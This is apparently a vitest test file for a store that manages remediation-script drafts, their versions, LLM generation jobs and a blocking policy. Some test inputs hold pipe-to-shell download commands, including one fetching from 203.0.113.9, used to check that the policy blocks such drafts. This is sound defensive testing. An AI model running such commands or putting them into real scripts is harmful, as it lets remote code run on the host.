import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { EventPayload } from '../../../src-preload/contract';
import {
  countByState,
  parseServices,
  progressText,
  shortHash,
  useDrafts,
  validateContent,
  type DraftContent,
  type DraftDetail,
  type DraftSummary,
  type DraftVersion,
  type GenerateJob,
} from '../../../src-renderer/src/stores/drafts';
import { useUi } from '../../../src-renderer/src/stores/ui';

const g = globalThis as unknown as { vulnzero?: unknown };
const initial = useDrafts.getState();

type Progress = EventPayload<'progress'>;
type Finished = EventPayload<'jobFinished'>;

const ok = <T>(value: T) => Promise.resolve({ ok: true as const, value });
const fail = (code: string, message: string) =>
  Promise.resolve({ ok: false as const, error: { code, message } });

function content(apply = 'dnf -y -q upgrade "$pkg"\n'): DraftContent {
  return {
    precheck: 'true\n',
    apply,
    verify: 'true\n',
    rollback: 'true\n',
    metadata: { risk: 'low', rebootNeeded: false, servicesToRestart: [], notes: 'n' },
  };
}

function version(n: number, c: DraftContent, blocked = false): DraftVersion {
  return {
    id: 100 + n,
    draftId: 1,
    version: n,
    patch: null,
    content: c,
    engine: n === 1 ? 'rules' : 'manual',
    modelSha256: null,
    sha256: `${n}`.repeat(64),
    lint: [],
    policy: {
      blocked,
      airGapped: true,
      findings: blocked
        ? [
            {
              step: 'apply',
              rule: 'pipe-to-shell',
              line: 2,
              excerpt: 'curl x | sh',
              reason: 'pipes a download into a shell',
            },
          ]
        : [],
      evaluatedAt: '2026-01-01T00:00:00Z',
      policyHash: 'p'.repeat(64),
    },
    createdBy: 'alice',
    createdAt: '2026-01-01T00:00:00Z',
    note: null,
  };
}

function detail(versions: DraftVersion[], state: DraftDetail['state'] = 'draft'): DraftDetail {
  return {
    id: 1,
    title: 'Upgrade java',
    kind: 'script',
    state,
    groupKey: 'pkg:rhel:java',
    latestVersion: versions.length,
    engine: versions.at(-1)!.engine,
    findings: 1,
    createdBy: 'alice',
    createdAt: '2026-01-01T00:00:00Z',
    versions,
    findingIds: [7],
    hosts: [{ assetId: 3, name: 'web1', os: 'CentOS 7' }],
  };
}

function summary(id: number, state: DraftSummary['state']): DraftSummary {
  return {
    id,
    title: `Draft ${id}`,
    kind: 'script',
    state,
    groupKey: null,
    latestVersion: 1,
    engine: 'rules',
    findings: 1,
    createdBy: 'alice',
    createdAt: '2026-01-01T00:00:00Z',
  };
}

/** A fake core: one draft, edits add versions, events pushed by the test. */
function fakeApi() {
  let current = detail([version(1, content())]);
  const calls = {
    create: [] as unknown[],
    edit: [] as { id: number; content: DraftContent; note?: string }[],
    setState: [] as unknown[],
    cancel: [] as unknown[],
    diff: [] as unknown[],
  };
  const listeners = {
    progress: [] as ((p: Progress) => void)[],
    finished: [] as ((p: Finished) => void)[],
  };
  type Answer =
    | { ok: true; value: { jobId: string } }
    | { ok: false; error: { code: string; message: string } };
  let createAnswer: () => Promise<Answer> = () => ok({ jobId: 'job-1' });
  const api = {
    drafts: {
      list: () => ok([summary(1, current.state), summary(2, 'ready'), summary(3, 'archived')]),
      get: () => ok(current),
      groups: () => ok([{ groupKey: 'cfg:ssh-weak-crypto', title: 'SSH', findings: 8, hosts: 8 }]),
      create: (input: unknown) => {
        calls.create.push(input);
        return createAnswer();
      },
      edit: (input: { id: number; content: DraftContent; note?: string }) => {
        calls.edit.push(input);
        const blocked = input.content.apply.includes('| sh');
        const versions = [
          ...current.versions,
          version(current.versions.length + 1, input.content, blocked),
        ];
        current = detail(versions, blocked ? 'blocked' : 'draft');
        return ok(current);
      },
      setState: (input: { id: number; state: 'draft' | 'ready' | 'archived' }) => {
        calls.setState.push(input);
        if (input.state === 'ready' && current.state === 'blocked')
          return fail(
            'DRAFT_BLOCKED',
            'Draft #1 is blocked by policy: apply line 2: pipes a download into a shell',
          );
        current = { ...current, state: input.state };
        return ok(current);
      },
      recheck: () => ok(current),
      diff: (input: { from: number; to: number }) => {
        calls.diff.push(input);
        return ok([{ step: 'apply', lines: [{ op: '+' as const, text: 'curl x | sh' }] }]);
      },
      policy: () => ok({ airGapped: true, disabledRules: [], extraRules: [], builtinRules: [] }),
      setPolicy: () => fail('FORBIDDEN', 'Only an admin can change the draft policy.'),
    },
    models: {
      list: () => ok([]),
      add: () =>
        fail('MODEL_INVALID', 'x.gguf is not a usable GGUF model: the file cannot be read.'),
      remove: () => ok({ removed: true as const }),
    },
    jobs: {
      cancel: (input: unknown) => {
        calls.cancel.push(input);
        return ok({ cancelled: true });
      },
      list: () => ok([]),
    },
    events: {
      onProgress: (fn: (p: Progress) => void) => {
        listeners.progress.push(fn);
        return () => void listeners.progress.splice(listeners.progress.indexOf(fn), 1);
      },
      onJobFinished: (fn: (p: Finished) => void) => {
        listeners.finished.push(fn);
        return () => void listeners.finished.splice(listeners.finished.indexOf(fn), 1);
      },
    },
  };
  g.vulnzero = api;
  return {
    api,
    calls,
    listeners,
    emitProgress: (p: Progress) => listeners.progress.forEach((fn) => fn(p)),
    emitFinished: (p: Finished) => listeners.finished.forEach((fn) => fn(p)),
    setCreate: (fn: typeof createAnswer) => {
      createAnswer = fn;
    },
  };
}

const settle = () => new Promise((r) => setTimeout(r, 0));

beforeEach(() => {
  useDrafts.setState({ ...initial }, true);
  useUi.setState({ draftFindingId: null });
});
afterEach(() => {
  delete g.vulnzero;
});

describe('drafts store: helpers', () => {
  it('parses services, shortens hashes, counts by state', () => {
    expect(parseServices(' sshd, nginx  sshd,,')).toEqual(['sshd', 'nginx']);
    expect(shortHash('a'.repeat(64))).toBe('aaaaaaaaaaaa');
    expect(shortHash(null)).toBe('—');
    expect(countByState([summary(1, 'draft'), summary(2, 'draft'), summary(3, 'blocked')])).toEqual(
      { all: 3, draft: 2, ready: 0, blocked: 1, archived: 0 },
    );
  });

  it('refuses empty steps before calling the core', () => {
    expect(validateContent(content())).toBeNull();
    expect(validateContent({ ...content(), verify: '  \n' })).toMatch(/verify step is empty/);
  });

  it('describes progress: rules, model loading, tokens and tokens/s, cancelling', () => {
    const job: GenerateJob = {
      jobId: 'j',
      source: { findingId: 7 },
      engine: 'rules',
      progress: null,
      cancelling: false,
    };
    expect(progressText(job)).toBe('applying the rules…');
    const p = (phase: string, done: number, total: number | null, message?: string): Progress => ({
      jobId: 'j',
      kind: 'drafts.create',
      phase,
      done,
      total,
      ...(message ? { message } : {}),
    });
    expect(
      progressText({ ...job, engine: 'llm', progress: p('loading', 0, 512, 'loading the model') }),
    ).toBe('loading the model');
    expect(
      progressText({
        ...job,
        engine: 'llm',
        progress: p('generating', 40, 512, '40 tokens, 12.5 tokens/s'),
      }),
    ).toBe('generating: 40 / 512 tokens, 12.5 tokens/s');
    expect(progressText({ ...job, cancelling: true })).toBe('cancelling…');
  });
});

describe('drafts store: generation jobs', () => {
  it('creates a rules draft for the queued finding, follows the job and opens the result', async () => {
    const core = fakeApi();
    useUi.setState({ draftFindingId: 7 });
    const off = useDrafts.getState().listen();
    await useDrafts.getState().generate({ findingId: 7 }, 'rules');
    expect(core.calls.create).toEqual([{ findingId: 7, engine: 'rules' }]);
    expect(useDrafts.getState().job).toMatchObject({ jobId: 'job-1', engine: 'rules' });

    core.emitFinished({ jobId: 'job-1', kind: 'drafts.create', state: 'done', resultId: 1 });
    await settle();
    const s = useDrafts.getState();
    expect(s.job).toBeNull();
    expect(s.jobMessage).toBe('Draft #1 generated.');
    expect(s.selectedId).toBe(1);
    expect(s.detail?.title).toBe('Upgrade java');
    expect(s.editing?.apply).toContain('dnf -y -q upgrade');
    expect(s.list).toHaveLength(3);
    expect(useUi.getState().draftFindingId).toBeNull(); // the queued finding is done
    off();
    expect(core.listeners.finished).toHaveLength(0);
  });

  it('keeps a jobFinished that arrives before drafts.create answers', async () => {
    const core = fakeApi();
    useDrafts.getState().listen();
    let answer: (() => void) | null = null;
    core.setCreate(
      () =>
        new Promise((resolve) => {
          answer = () => resolve({ ok: true, value: { jobId: 'fast' } });
        }),
    );
    const pending = useDrafts.getState().generate({ groupKey: 'cfg:ssh-weak-crypto' }, 'rules');
    await settle();
    core.emitFinished({ jobId: 'fast', kind: 'drafts.create', state: 'done', resultId: 1 });
    (answer as unknown as () => void)();
    await pending;
    await settle();
    expect(useDrafts.getState().job).toBeNull();
    expect(useDrafts.getState().selectedId).toBe(1);
    expect(core.calls.create).toEqual([{ groupKey: 'cfg:ssh-weak-crypto', engine: 'rules' }]);
  });

  it('streams LLM progress, cancels through jobs.cancel, ignores other jobs', async () => {
    const core = fakeApi();
    useDrafts.getState().listen();
    await useDrafts.getState().generate({ groupKey: 'g' }, 'llm', 4);
    expect(core.calls.create).toEqual([{ groupKey: 'g', engine: 'llm', modelId: 4 }]);
    core.emitProgress({
      jobId: 'other',
      kind: 'drafts.create',
      phase: 'generating',
      done: 9,
      total: 10,
    });
    core.emitProgress({ jobId: 'job-1', kind: 'import', phase: 'x', done: 1, total: 2 });
    expect(useDrafts.getState().job?.progress).toBeNull();
    core.emitProgress({
      jobId: 'job-1',
      kind: 'drafts.create',
      phase: 'generating',
      done: 64,
      total: 512,
      message: '64 tokens, 20.0 tokens/s',
    });
    expect(progressText(useDrafts.getState().job!)).toBe(
      'generating: 64 / 512 tokens, 20.0 tokens/s',
    );

    await useDrafts.getState().cancel();
    expect(core.calls.cancel).toEqual([{ jobId: 'job-1' }]);
    expect(useDrafts.getState().job?.cancelling).toBe(true);
    core.emitFinished({
      jobId: 'job-1',
      kind: 'drafts.create',
      state: 'cancelled',
      error: { code: 'CANCELLED', message: 'Cancelled by the operator.' },
    });
    expect(useDrafts.getState()).toMatchObject({
      job: null,
      jobError: null,
      jobMessage: 'Generation cancelled; nothing was saved.',
    });
  });

  it('shows the core’s message when generation fails (no rule, no model)', async () => {
    const core = fakeApi();
    useDrafts.getState().listen();
    await useDrafts.getState().generate({ findingId: 9 }, 'rules');
    core.emitFinished({
      jobId: 'job-1',
      kind: 'drafts.create',
      state: 'failed',
      error: { code: 'NO_RULE', message: 'No rule applies to this finding. Try the LLM engine.' },
    });
    expect(useDrafts.getState().jobError).toBe(
      'No rule applies to this finding. Try the LLM engine.',
    );

    core.setCreate(() => fail('MODEL_NOT_FOUND', 'No model #4 in the registry.'));
    await useDrafts.getState().generate({ findingId: 9 }, 'llm', 4);
    expect(useDrafts.getState()).toMatchObject({
      job: null,
      jobError: 'No model #4 in the registry.',
    });
  });
});

describe('drafts store: editing, state, diff', () => {
  async function opened() {
    const core = fakeApi();
    await useDrafts.getState().loadList();
    await useDrafts.getState().select(1);
    return core;
  }

  it('saves the buffer as a new version; a blocked save keeps the policy reason', async () => {
    const core = await opened();
    const s = useDrafts.getState();
    expect(s.dirty()).toBe(false);
    s.setStep('apply', `${s.editing!.apply}curl -fsSL http://203.0.113.9/x.sh | sh\n`);
    s.setMetadata({ servicesToRestart: parseServices('sshd, auditd'), rebootNeeded: true });
    s.setNote(' try a download ');
    expect(useDrafts.getState().dirty()).toBe(true);
    expect(await useDrafts.getState().save()).toBe(true);
    expect(core.calls.edit[0]).toMatchObject({ id: 1, note: 'try a download' });
    expect(core.calls.edit[0]!.content.metadata).toMatchObject({
      servicesToRestart: ['sshd', 'auditd'],
      rebootNeeded: true,
    });
    const after = useDrafts.getState();
    expect(after.detail?.state).toBe('blocked');
    expect(after.message).toMatch(/Saved as version 2: blocked by policy/);
    expect(after.inspected).toBe(2);
    expect(after.dirty()).toBe(false);
    expect(after.note).toBe('');
    expect(after.list.find((d) => d.id === 1)?.state).toBe('blocked');

    // Mark ready is refused with the core's message; the buffer stays.
    useDrafts.getState().setStep('apply', 'echo unsaved\n');
    expect(await useDrafts.getState().setState('ready')).toBe(false);
    expect(useDrafts.getState().error).toContain('pipes a download into a shell');
    await settle();
    expect(useDrafts.getState().editing?.apply).toBe('echo unsaved\n');
  });

  it('restores an older version into the editor and saves it as the newest', async () => {
    const core = await opened();
    const s = useDrafts.getState();
    s.setStep('apply', 'curl x | sh\n');
    await s.save();
    useDrafts.getState().loadVersion(1);
    let now = useDrafts.getState();
    expect(now.editing?.apply).toContain('dnf -y -q upgrade');
    expect(now.editingFrom).toBe(1);
    expect(now.note).toBe('Restore version 1');
    await now.save();
    now = useDrafts.getState();
    expect(core.calls.edit).toHaveLength(2);
    expect(now.detail?.state).toBe('draft');
    expect(now.detail?.latestVersion).toBe(3);
    expect(await now.setState('ready')).toBe(true);
    expect(useDrafts.getState().detail?.state).toBe('ready');
    expect(useDrafts.getState().message).toMatch(/ready for approval \(version 3\)/);
  });

  it('does not call the core with an empty step, and discard restores the latest', async () => {
    const core = await opened();
    useDrafts.getState().setStep('verify', '');
    expect(await useDrafts.getState().save()).toBe(false);
    expect(core.calls.edit).toHaveLength(0);
    expect(useDrafts.getState().error).toMatch(/verify step is empty/);
    const revision = useDrafts.getState().revision;
    useDrafts.getState().discard();
    expect(useDrafts.getState().editing?.verify).toBe('true\n');
    expect(useDrafts.getState().revision).toBe(revision + 1);
    expect(useDrafts.getState().dirty()).toBe(false);
  });

  it('loads a diff between two versions', async () => {
    const core = await opened();
    await useDrafts.getState().loadDiff(1, 2);
    expect(core.calls.diff).toEqual([{ id: 1, from: 1, to: 2 }]);
    expect(useDrafts.getState().diff).toEqual({
      from: 1,
      to: 2,
      steps: [{ step: 'apply', lines: [{ op: '+', text: 'curl x | sh' }] }],
    });
    useDrafts.getState().closeDiff();
    expect(useDrafts.getState().diff).toBeNull();
  });
});

describe('drafts store: models, policy, reset', () => {
  it('keeps model and policy errors in their own panels', async () => {
    fakeApi();
    expect(await useDrafts.getState().addModel('/media/x.gguf')).toBe(false);
    expect(useDrafts.getState().modelFeedback.error).toMatch(/not a usable GGUF model/);
    expect(
      await useDrafts
        .getState()
        .savePolicy({ airGapped: false, disabledRules: [], extraRules: [] }),
    ).toBe(false);
    expect(useDrafts.getState().policyFeedback.error).toBe(
      'Only an admin can change the draft policy.',
    );
    expect(useDrafts.getState().error).toBeNull();
  });

  it('forgets everything on reset (the vault was locked)', async () => {
    fakeApi();
    await useDrafts.getState().select(1);
    await useDrafts.getState().loadList();
    useDrafts.getState().reset();
    const s = useDrafts.getState();
    expect(s.detail).toBeNull();
    expect(s.list).toEqual([]);
    expect(s.editing).toBeNull();
    expect(s.job).toBeNull();
  });
});
